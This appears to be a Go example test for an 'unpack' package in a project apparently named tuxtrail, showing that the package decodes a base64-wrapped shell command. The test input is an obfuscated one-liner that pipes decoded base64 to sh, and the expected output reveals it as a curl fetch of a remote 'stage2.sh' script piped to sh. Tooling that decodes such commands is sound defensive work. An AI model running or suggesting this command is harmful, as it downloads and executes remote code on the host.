package unpack_test

import (
	"fmt"

	"github.com/tuxtrail/tuxtrail/unpack"
)

func Example() {
	cmd := "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3N0YWdlMi5zaCB8IHNoCg== | base64 -d | sh"
	for _, top := range unpack.Text(cmd, unpack.Options{}) {
		for path, n := range top.All() {
			fmt.Printf("%v %s %q\n", path, n.Type, n.Data)
		}
	}
	// Output:
	// [base64] text "curl -s http://203.0.113.99/stage2.sh | sh\n"
}
